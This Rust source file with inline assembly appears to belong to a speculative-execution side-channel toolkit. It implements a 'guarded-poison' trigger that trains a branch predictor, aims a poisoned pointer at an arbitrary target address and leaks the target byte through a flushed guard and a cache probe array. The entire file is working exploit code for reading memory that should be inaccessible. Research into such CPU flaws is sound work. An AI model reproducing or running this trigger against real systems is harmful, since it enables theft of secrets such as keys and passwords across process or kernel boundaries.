/*!
 * Guarded-poison trigger.
 *
 * A loop walks a table of pointers and a parallel table of guard flags. Every
 * slot but the last points at a harmless zero byte and has a zero guard, which
 * trains the loop branch to keep going. The last slot points at the target and
 * its guard is nonzero but freshly flushed, so the CPU predicts "keep going",
 * dereferences the target and touches the probe before the guard load comes
 * back and squashes the whole thing. Nothing ever faults.
 *
 * ```text
 * guards mapping (2 pages, table starts 8 bytes in):
 * | pad | g[0] g[1] ... g[510] | g[511]=1 ... |
 * +-----+----------------------+-------------+
 * |         page 0             |   page 1    |
 * ```
 * The terminating guard is alone at the start of page 1, so flushing it never
 * evicts the training guards.
 */

use crate::cache::{CacheProbe, PAGE_SHIFT, PAGE_SIZE};
use crate::calibrate::{CalibrationPlan, CutoffRule};
use crate::error::Result;
use crate::mapping::Mapping;
use crate::timer;
use crate::triggers::SpeculationTrigger;
use core::arch::asm;
use core::mem::size_of;
use core::ptr;
use tracing::debug;

pub const PTRS_PER_PAGE : usize = PAGE_SIZE / size_of::<u64>();

/// Index of the poisoned slot; all slots before it are training slots
pub const POISON_LEN : usize = PTRS_PER_PAGE - 1;

/// Only every Nth slot is walked. Fewer training slots per fire means more
/// fires per second, more means a more reliable misprediction.
pub const POISON_SKIP_RATE : usize = 4;

const _: () = assert!(PTRS_PER_PAGE % POISON_SKIP_RATE == 0);
const _: () = assert!(PAGE_SHIFT == 12);

/// Known non-secret byte used as the calibration reference; lands on region 1
static CALIBRATION_BYTE : u8 = 1;

pub struct GuardedPoisonTrigger {
    pointers: Mapping,
    guards: Mapping,
    default_value: Box<u8>,
}

impl GuardedPoisonTrigger {
    #[inline(always)]
    fn pointer_table(&self) -> *mut usize {
        self.pointers.as_ptr() as *mut usize
    }

    /// The guard table starts one word into its mapping.
    #[inline(always)]
    fn guard_table(&self) -> *mut u64 {
        unsafe { (self.guards.as_ptr() as *mut u64).add(1) }
    }

    /// Address of the poisoned slot's guard.
    pub fn terminator(&self) -> *const u64 {
        unsafe { self.guard_table().add(POISON_LEN) }
    }

    #[cfg(test)]
    fn slot(&self, index: usize) -> (usize, u64) {
        assert!(index <= POISON_LEN);
        unsafe {
            (
                ptr::read_volatile(self.pointer_table().add(index)),
                ptr::read_volatile(self.guard_table().add(index)),
            )
        }
    }
}

impl SpeculationTrigger for GuardedPoisonTrigger {
    const NAME : &'static str = "guarded-poison";

    fn open() -> Result<Self> {
        let pointers = Mapping::anonymous((POISON_LEN + 1) * size_of::<usize>(), "poison pointer table")?;
        let guards = Mapping::anonymous((POISON_LEN + 2) * size_of::<u64>(), "poison guard table")?;
        let default_value = Box::new(0u8);

        let trigger = Self { pointers, guards, default_value };
        let safe = &*trigger.default_value as *const u8 as usize;
        unsafe {
            for slot in 0..POISON_LEN {
                ptr::write_volatile(trigger.pointer_table().add(slot), safe);
                ptr::write_volatile(trigger.guard_table().add(slot), 0);
            }
            ptr::write_volatile(trigger.pointer_table().add(POISON_LEN), safe);
            ptr::write_volatile(trigger.guard_table().add(POISON_LEN), 1);
        }

        debug!(
            "Poison tables ready: {} slots, skip rate {}, terminator at 0x{:X}",
            POISON_LEN + 1,
            POISON_SKIP_RATE,
            trigger.terminator() as usize
        );
        Ok(trigger)
    }

    fn aim(&mut self, target: usize) {
        unsafe { ptr::write_volatile(self.pointer_table().add(POISON_LEN), target) };
    }

    #[inline(always)]
    fn fire(&mut self, _target: usize, probe: &CacheProbe) {
        let step = (POISON_SKIP_RATE * size_of::<u64>()) as u64;
        unsafe {
            timer::flush(self.terminator() as *const u8);

            let pointers = self.pointer_table().add(POISON_SKIP_RATE - 1);
            let guards = self.guard_table().add(POISON_SKIP_RATE - 1);
            asm!{
                "2:",
                "mov {tgt}, qword ptr [{ptrs}]",
                "prefetcht0 byte ptr [{tgt}]",
                "mov {flag}, qword ptr [{guards}]",
                "test {flag}, {flag}",
                "jnz 3f",
                "movzx {val:e}, byte ptr [{tgt}]",
                "shl {val}, 12",
                "inc byte ptr [{probe} + {val}]",
                "add {ptrs}, {step}",
                "add {guards}, {step}",
                "jmp 2b",
                "3:",
                ptrs = inout(reg) pointers => _,
                guards = inout(reg) guards => _,
                probe = in(reg) probe.base(),
                step = in(reg) step,
                tgt = out(reg) _,
                flag = out(reg) _,
                val = out(reg) _,
                options(nostack),
            }
        }
    }

    /// Region 0 is hit by every training slot; region 2 is never touched by
    /// a reference whose value is 1.
    fn calibration(&self) -> CalibrationPlan {
        CalibrationPlan {
            reference: &CALIBRATION_BYTE as *const u8 as usize,
            rule: CutoffRule::Midpoint { hit_region: 0, miss_region: 2 },
        }
    }
}
